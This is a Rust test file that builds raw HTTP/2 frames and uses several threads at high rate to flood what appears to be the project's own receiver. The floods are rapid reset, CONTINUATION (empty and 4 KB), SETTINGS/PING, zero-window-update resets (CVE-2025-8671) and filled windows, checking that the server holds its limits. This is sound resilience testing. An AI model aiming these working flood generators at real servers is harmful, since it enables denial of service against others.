//! HTTP/2 as raw frames: rapid reset, CONTINUATION, SETTINGS and PING floods, and windows that are filled and left.

use std::io::{Read, Write};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use crate::siege::{besiege, connect_from};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
/// How many bytes a second each of four attackers sends: together they fill a line of 800 Mbit/s. On the way there their
/// processor would not be ours.
const RATE: f64 = 25_000_000.0;
/// `POST http://x/`, from the static table (RFC 7541, appendix A).
const REQUEST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'x'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// Attackers who open a connection, send `first`, then what `next` gives for 0, 1, 2 … for as long as it is taken, and
/// begin again. Nothing is read but at the end.
fn flood(
    name: &str,
    limits: &str,
    set: impl Fn(&mut dt_receiver::config::Limits),
    next: impl Fn(u32) -> Vec<u8> + Sync,
) {
    let (connections, bytes) = (AtomicU64::new(0), AtomicU64::new(0));
    besiege(name, limits, set, |to, stop| {
        std::thread::scope(|scope| {
            for attacker in 0..4 {
                let (connections, bytes, next) = (&connections, &bytes, &next);
                scope.spawn(move || {
                    while !stop.load(Ordering::Relaxed) {
                        attack(attacker, to, stop, next, bytes);
                        connections.fetch_add(1, Ordering::Relaxed);
                    }
                });
            }
        });
    });
    println!("{name}: {} connections, {} MB", connections.into_inner(), bytes.into_inner() / 1_000_000);
}

fn attack(
    attacker: u64,
    to: SocketAddr,
    stop: &AtomicBool,
    next: &impl Fn(u32) -> Vec<u8>,
    bytes: &AtomicU64,
) {
    let Some(mut connection) = connect_from(attacker, to) else { return };
    // What is never read would stop the server, and so the flood.
    let Ok(mut reading) = connection.try_clone() else { return };
    let reader = std::thread::spawn(move || {
        let mut answers = vec![0; 65536];
        while reading.read(&mut answers).is_ok_and(|length| length > 0) {}
    });
    let (started, mut sent) = (Instant::now(), 0_usize);
    let mut batch = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    for number in 0.. {
        batch.extend(next(number));
        if batch.len() > 16_000 || number == 0 {
            if stop.load(Ordering::Relaxed) || connection.write_all(&batch).is_err() {
                break;
            }
            bytes.fetch_add(u64::try_from(batch.len()).expect("small"), Ordering::Relaxed);
            sent += batch.len();
            let planned = started + Duration::from_secs_f64(sent as f64 / RATE);
            std::thread::sleep(planned.saturating_duration_since(Instant::now()));
            batch.clear();
        }
    }
    let _closed = connection.shutdown(std::net::Shutdown::Both);
    reader.join().expect("it only reads");
}

fn stream(number: u32) -> u32 {
    (number * 2 + 1) & 0x7fff_ffff
}

#[test]
fn rapid_reset() {
    flood(
        "HTTP/2 rapid reset",
        "",
        |_| {},
        |number| {
            let id = stream(number);
            [frame(HEADERS, END_HEADERS, id, REQUEST), frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())]
                .concat()
        },
    );
}

#[test]
fn continuation() {
    // Each has a header of 4 KB that is not indexed, and none ends the block.
    let header = [&[0, 1, b'a', 0x7f, 0x81, 0x1f][..], &[b'a'; 4096]].concat();
    flood(
        "HTTP/2 CONTINUATION",
        "",
        |_| {},
        |number| {
            if number == 0 { frame(HEADERS, 0, 1, REQUEST) } else { frame(CONTINUATION, 0, 1, &header) }
        },
    );
}

#[test]
fn empty_continuation() {
    flood(
        "HTTP/2 empty CONTINUATION",
        "",
        |_| {},
        |number| {
            if number == 0 { frame(HEADERS, 0, 1, REQUEST) } else { frame(CONTINUATION, 0, 1, &[]) }
        },
    );
}

#[test]
fn settings_and_pings() {
    flood(
        "HTTP/2 SETTINGS and PING",
        "",
        |_| {},
        |number| match number % 2 {
            0 => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            _ => frame(PING, 0, 0, &[0; 8]),
        },
    );
}

#[test]
fn requests_that_the_server_resets() {
    // A window update of 0 is an error of its stream (MadeYouReset, CVE-2025-8671).
    flood(
        "HTTP/2 made to reset",
        "",
        |_| {},
        |number| {
            let id = stream(number);
            [frame(HEADERS, END_HEADERS, id, REQUEST), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()
        },
    );
}

#[test]
fn windows_that_are_filled_and_left() {
    // Few places, so that the bound on memory is near.
    let set = |limits: &mut dt_receiver::config::Limits| {
        (limits.max_connections, limits.max_in_flight, limits.max_in_flight_bytes) = (200, 64, 65536);
    };
    let limits = "max_connections = 200\nmax_in_flight = 64\nmax_in_flight_bytes = 65536";
    flood("HTTP/2 windows", limits, set, |number| {
        let id = stream(number);
        [frame(HEADERS, END_HEADERS, id, REQUEST), frame(DATA, 0, id, &[b'x'; 8192])].concat()
    });
}
